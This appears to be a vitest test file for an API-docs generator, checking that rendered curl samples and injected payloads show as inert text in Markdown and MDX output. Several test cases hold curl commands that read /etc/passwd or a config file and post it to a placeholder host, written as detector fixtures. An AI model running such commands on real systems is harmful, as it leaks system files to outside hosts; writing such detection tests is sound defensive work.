import { describe, expect, it } from 'vitest';
import { asMdx } from '../generator/markdown/mdx.js';
import { markdownFaults, mdxFaults } from '../acceptance/pages/inspect.mjs';
import { linkFaults } from '../acceptance/pages/links.mjs';
import { make, morePages, pages } from './api.js';
import { curlFaults } from './inspect/curl.js';
import { documentWith } from './documents/document.js';
import { payloads } from './documents/payloads.js';
import { unseenFaults } from './inspect/unseen.js';

/** Markdown is read in all flavours; reading MDX takes ten times as long, so each payload goes through one, or all if asked. */
const thorough = process.env['PROOFS'] === 'all';

it.each<[string, string, number]>([
  ['sends what it says', "curl --request POST \\\n  --url 'https://a/b' \\\n  --data-raw '@/etc/passwd'", 0],
  ['holds a quote', "curl --request POST --url https://a --form-string 'a='\\''@b'", 0],
  ['sends a file of the reader', "curl --request POST --url https://a --form 'a'='@file'", 0],
  ['sends another', "curl --request POST --url https://a --form 'a=@/etc/passwd=@file'", 1],
  ['reads a body', "curl --request POST --url https://a --data '@/etc/passwd'", 1],
  ['reads a server', "curl --request POST --url '{file}:///etc/passwd'", 1],
  ['reads options', "curl --request POST --url https://a --config 'b'", 1],
])('a sample of curl that %s', (_, code, want) => {
  expect(curlFaults(`\`\`\`bash\n${code}\n\`\`\``)).toHaveLength(want);
});

describe('a text at every position of a document shows as text', () => {
  it.each(Object.entries(payloads).map(([name, payload], index) => [name, payload, index] as const))(
    '%s',
    async (_, payload, index) => {
      const targets = thorough || index % 8 === 0 ? [...pages, ...morePages] : pages;
      const inMdx = `${pages[index % pages.length]?.output ?? ''}/`;
      const { files, errors } = await make(
        documentWith(() => payload, '3.1.1'),
        targets,
      );
      expect(errors).toEqual([]);
      const faults: string[] = [];
      for (const [path, text] of files) {
        if (!path.endsWith('.md')) continue;
        const asked = thorough || path.startsWith(inMdx);
        const found = [
          ...unseenFaults(text),
          ...curlFaults(text),
          ...markdownFaults(text),
          ...(asked ? await mdxFaults(asMdx(text), text) : []),
        ];
        faults.push(...found.map((fault) => `${path}: ${fault}`));
      }
      expect([...faults, ...linkFaults(files).faults]).toEqual([]);
    },
  );
});
